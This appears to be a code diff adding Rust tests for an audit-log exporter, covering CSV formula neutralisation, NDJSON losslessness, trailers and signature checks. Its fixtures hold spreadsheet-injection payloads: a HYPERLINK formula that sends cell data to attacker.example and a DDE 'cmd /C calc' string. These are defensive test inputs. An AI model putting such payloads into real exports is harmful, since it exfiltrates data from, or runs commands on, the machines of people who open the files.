@@ -457,3 +457,135 @@ pub fn verify_export(bytes: &[u8], public_key: &[u8]) -> Result<VerifiedExport, 
         key_id: str_of("key_id").unwrap_or_default(),
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::crypto::MasterKey;
+
+    fn rec(seq: i64, prev: &str, ts: &str, actor: &str, ua: &str, details: Value) -> AuditRecord {
+        let mut r = AuditRecord {
+            seq,
+            id: format!("00000000-0000-4000-8000-{seq:012}"),
+            ts: ts.into(),
+            actor_email: Some(actor.into()),
+            actor_role: None,
+            client_ip: Some("192.0.2.1".into()),
+            user_agent: Some(ua.into()),
+            action: "login.failure".into(),
+            target: None,
+            details,
+            prev_hash: prev.into(),
+            hash: String::new(),
+        };
+        r.hash = record_hash(&r);
+        r
+    }
+
+    /// C11's three events (DST switch, LF/quotes, TAB/CRLF/U+2028/astral) and C10's payloads.
+    fn events() -> Vec<AuditRecord> {
+        let e1 = rec(
+            1,
+            crate::audit::GENESIS_HASH,
+            "2024-03-31T00:59:59.999Z",
+            "=HYPERLINK(\"https://attacker.example/?d=\"&A2,\"open\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            json!({"detail": "line1\nline2, with \"quotes\""}),
+        );
+        let e2 = rec(
+            2,
+            &e1.hash,
+            "2024-03-31T01:00:00.000Z",
+            "\t=1+1",
+            "\r=1+1",
+            json!({"detail": "a\tb\r\nc\u{2028}d\u{1F600}"}),
+        );
+        let e3 = rec(3, &e2.hash, "2024-03-31T01:30:00.000Z", "-2+3", "ua", json!({}));
+        vec![e1, e2, e3]
+    }
+
+    fn signer() -> (tempfile::TempDir, AuditSigner) {
+        let d = tempfile::tempdir().unwrap();
+        let mk = MasterKey::from_bytes(zeroize::Zeroizing::new([3u8; 32]), d.path().join("m"));
+        let s = AuditSigner::load_or_create(d.path(), &mk).unwrap();
+        (d, s)
+    }
+
+    fn write(format: Format, profile: Profile, s: &AuditSigner) -> Vec<u8> {
+        let mut w = ExportWriter::new(format, profile, Some("2024-03-31T00:00:00.000Z".into()), None);
+        let mut out = w.header().unwrap();
+        for r in events() {
+            out.extend(w.row(&r).unwrap());
+        }
+        out.extend(w.finish(s).unwrap());
+        out
+    }
+
+    #[test]
+    fn csv_framing_and_neutralisation() {
+        let (_d, s) = signer();
+        for (profile, sanitised) in [(Profile::Spreadsheet, true), (Profile::Machine, false)] {
+            let b = write(Format::Csv, profile, &s);
+            assert!(!b.starts_with(&[0xEF, 0xBB, 0xBF]));
+            assert!(b.ends_with(b"\r\n"));
+            let text = String::from_utf8(b.clone()).unwrap();
+            assert!(text.starts_with("record_type,seq,id,ts,"));
+            if sanitised {
+                assert!(text.contains(
+                    "\"'=HYPERLINK(\"\"https://attacker.example/?d=\"\"&A2,\"\"open\"\")\""
+                ));
+            }
+            let mut rdr = csv::Reader::from_reader(&b[..]);
+            let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+            assert_eq!(recs.len(), 4);
+            for (r, e) in recs.iter().zip(events()) {
+                assert_eq!(r.len(), 13);
+                assert_eq!(&r[1], e.seq.to_string());
+                let raw = |v: &str| if sanitised { neutralise(v).into_owned() } else { v.to_string() };
+                assert_eq!(&r[3], e.ts);
+                assert_eq!(&r[4], raw(e.actor_email.as_deref().unwrap()));
+                assert_eq!(&r[7], raw(e.user_agent.as_deref().unwrap()));
+                let details: Value = serde_json::from_str(&r[10]).unwrap();
+                assert_eq!(details, e.details, "details kept verbatim as a JSON cell");
+            }
+            assert_eq!(&recs[3][0], "trailer");
+            assert_eq!(&recs[3][1], "3");
+            verify_export(&b, s.public_key()).unwrap();
+        }
+    }
+
+    #[test]
+    fn ndjson_lossless_with_trailer() {
+        let (_d, s) = signer();
+        let b = write(Format::Ndjson, Profile::Spreadsheet, &s);
+        let text = std::str::from_utf8(&b).unwrap();
+        let lines: Vec<&str> = text.lines().collect();
+        assert_eq!(lines.len(), 4);
+        for (l, e) in lines.iter().zip(events()) {
+            // Control characters are escaped by the JSON encoder: one record per physical line.
+            assert!(!l.contains('\r') && !l.contains('\t'), "{l}");
+            let v: Value = serde_json::from_str(l).unwrap();
+            let back = ndjson_record(&v).unwrap();
+            assert_eq!(back.actor_email, e.actor_email, "NDJSON is never neutralised");
+            assert_eq!(back.details, e.details);
+            assert_eq!(record_hash(&back), e.hash);
+        }
+        let t: Value = serde_json::from_str(lines[3]).unwrap();
+        assert_eq!(t["record_type"], "trailer");
+        assert_eq!(t["count"], 3);
+        assert_eq!(t["complete"], true);
+        let at = text.len() - lines[3].len() - 1;
+        assert_eq!(t["sha256"], hex::encode(Sha256::digest(&b[..at])));
+        verify_export(&b, s.public_key()).unwrap();
+        // A key that did not sign it.
+        let (_d2, other) = signer2();
+        assert!(verify_export(&b, other.public_key()).unwrap_err().contains("signature"));
+    }
+
+    fn signer2() -> (tempfile::TempDir, AuditSigner) {
+        let d = tempfile::tempdir().unwrap();
+        let mk = MasterKey::from_bytes(zeroize::Zeroizing::new([4u8; 32]), d.path().join("m"));
+        let s = AuditSigner::load_or_create(d.path(), &mk).unwrap();
+        (d, s)
+    }
+}
